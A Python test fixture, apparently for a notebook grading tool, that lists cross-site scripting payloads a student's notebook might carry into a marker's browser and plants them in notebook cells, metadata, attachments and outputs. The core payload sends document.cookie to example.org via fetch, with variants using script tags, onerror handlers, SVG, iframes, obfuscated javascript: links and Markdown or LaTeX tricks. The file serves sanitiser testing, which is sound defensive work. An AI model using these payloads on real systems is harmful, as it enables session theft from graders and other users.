"""Texts of a student that would be programs in the browser of whoever marks them.

Each sets the title of the page to "reached", or asks an address outside, when the page is opened
or a link in it is clicked.
"""

import nbformat

RUN = "document.title='reached';fetch('http://example.org/'+document.cookie)"
TAG = f'<img src=x onerror="{RUN}">'
TEXTS = {
    "a script": f"<script>{RUN}</script>",
    "a script over lines": f"<ScRiPt\n>\n{RUN}\n</sCrIpT\n>",
    "a handler": TAG,
    "an animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "a frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "a form": '<form action="http://example.org/"><button autofocus>Next &rarr;</button></form>',
    "a page that moves on": '<meta http-equiv="refresh" content="0;url=http://example.org/">',
    "a base for all links": '<base href="http://example.org/">',
    "a style": "<style>@import 'http://example.org/'; body {display: none}</style>",
    "an open tag": f'<img src=x onerror="{RUN}" x="',
    "a comment that ends": f"<!--> {TAG} -->",
    "code that is none": f"\\`{TAG}\\`",
    "code in a list": f"- x\n\n  `a\n\n  {TAG}`",
    "a formula that is none": f"${TAG}$",
    "a text in a formula": rf"$\text{{{TAG}}}$",
    "a link in a formula": rf"$\href{{javascript:{RUN}}}{{x}}$",
    "an environment": rf"\begin{{align}}{TAG}\end{{align}}",
    "a diagram": f"```mermaid\n{TAG}\n```",
    "a table": f"| a |\n|---|\n| {TAG} |",
    "a link": f"[x](javascript:{RUN})",
    "a link in disguise": f"[x](&#106;ava&Tab;script:{RUN})",
    "a link named elsewhere": f"[x]\n\n[x]: <java\nscript:{RUN}>",
    "an address": f"<javascript:{RUN}>",
    "a picture from outside": "![x](http://example.org/x.png)",
    "a title": f"[x](y '\"> {TAG}')",
    "a heading": f'# x {TAG} {{#"><i>}}',
}


def spoilt(nb) -> None:
    """Put into a released notebook all that is no text, too."""
    for cell in nb.cells:
        cell.metadata["tags"] = [f'">{TAG}']
    nb.metadata |= {"title": f"</title>{TAG}", "language_info": {"name": TAG}}
    state = {"version_major": 2, "state": {"x": f"</script>{TAG}"}}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    raw = nbformat.v4.new_raw_cell(TAG, metadata={"raw_mimetype": "text/html"})
    output = nbformat.v4.new_output("display_data", {"text/html": TAG, "text/plain": TAG})
    pasted = nbformat.v4.new_markdown_cell("![x](attachment:a) ![y](attachment:b) ![](attachment:)")
    pasted.attachments = {"a": {f'image/png" onerror="{RUN}"': "AA=="}, "b": {"image/svg+xml": TAG}}
    page = nbformat.v4.new_markdown_cell("[my drawing](drawing.html)")
    own = {"nbgrader": ["no record"]}
    nb.cells += [raw, nbformat.v4.new_code_cell(TAG, outputs=[output], metadata=own), pasted, page]
